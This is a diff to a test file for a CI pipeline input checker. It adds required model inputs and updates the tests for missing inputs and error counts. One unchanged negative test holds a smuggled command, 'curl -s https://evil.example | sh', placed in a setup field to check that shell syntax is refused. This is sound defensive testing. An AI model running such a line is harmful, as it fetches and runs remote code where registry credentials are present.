@@ -20,7 +20,12 @@ include:
   - component: $CI_SERVER_FQDN/platform/modelship/pipeline@1.0.0
     inputs:
 {inputs}"""
-REQUIRED = "      deploy_target: local\n"
+# The full pipeline's required inputs: everything particular to the model, and
+# where to deploy.
+MODEL = ("      repository: $CI_PROJECT_PATH/iris\n"
+         "      api_releases: services/iris/api/releases\n"
+         "      api_contract: services/iris\n")
+REQUIRED = MODEL + "      deploy_target: local\n"
 
 BAD = {
     # name: (inputs, the input the error must name)
@@ -31,7 +36,11 @@ BAD = {
     "wrong_type_boolean": (REQUIRED + "      canary: sometimes\n", "canary"),
     "wrong_type_array": (REQUIRED + "      steps: 10,25,50\n", "steps"),
     "wrong_type_number": (REQUIRED + "      step_interval: a minute\n", "step_interval"),
-    "missing_required_input": ("      mode: timed\n", "deploy_target"),
+    "missing_required_input": (MODEL + "      mode: timed\n", "deploy_target"),
+    "missing_repository": ("      deploy_target: local\n      api_releases: r\n"
+                           "      api_contract: c\n", "repository"),
+    "missing_api_contract": ("      deploy_target: local\n      repository: team/iris\n"
+                             "      api_releases: r\n", "api_contract"),
     # setup and tool run in jobs that hold registry credentials: plain words only.
     "setup_with_shell_syntax": (
         REQUIRED + "      setup: 'tools/bootstrap; curl -s https://evil.example | sh'\n",
@@ -83,13 +92,13 @@ def test_check_inputs_refuses_a_digest_with_a_trailing_newline(tmp_path):
     digest = "sha256:" + "ab" * 32
     pipeline = tmp_path / ".gitlab-ci.yml"
     pipeline.write_text(CONSUMER.format(
-        inputs=REQUIRED + f'      image: "registry.example/modelship/digits@{digest}\\n"\n'),
+        inputs=REQUIRED + f'      image: "registry.example/team/iris@{digest}\\n"\n'),
         encoding="utf-8")
     proc = check_inputs(str(pipeline))
     assert proc.returncode == 1, proc.stderr
     assert "input 'image'" in proc.stderr and "does not match" in proc.stderr
     pipeline.write_text(CONSUMER.format(
-        inputs=REQUIRED + f'      image: "registry.example/modelship/digits@{digest}"\n'),
+        inputs=REQUIRED + f'      image: "registry.example/team/iris@{digest}"\n'),
         encoding="utf-8")
     assert check_inputs(str(pipeline)).returncode == 0
 
@@ -128,7 +137,10 @@ def test_every_problem_is_reported_at_once(tmp_path):
     pipeline.write_text(CONSUMER.format(inputs="      mode: hourly\n      colour: red\n"),
                         encoding="utf-8")
     lines = check_inputs(str(pipeline)).stderr.strip().splitlines()
-    assert len(lines) == 3, lines  # the option, the unknown name, the missing deploy_target
+    # the option, the unknown name, the four missing required inputs
+    assert len(lines) == 6, lines
+    for name in ("repository", "api_releases", "api_contract", "deploy_target"):
+        assert [line for line in lines if f"required input '{name}' is missing" in line], name
 
 
 def test_shipped_pipelines_pass():
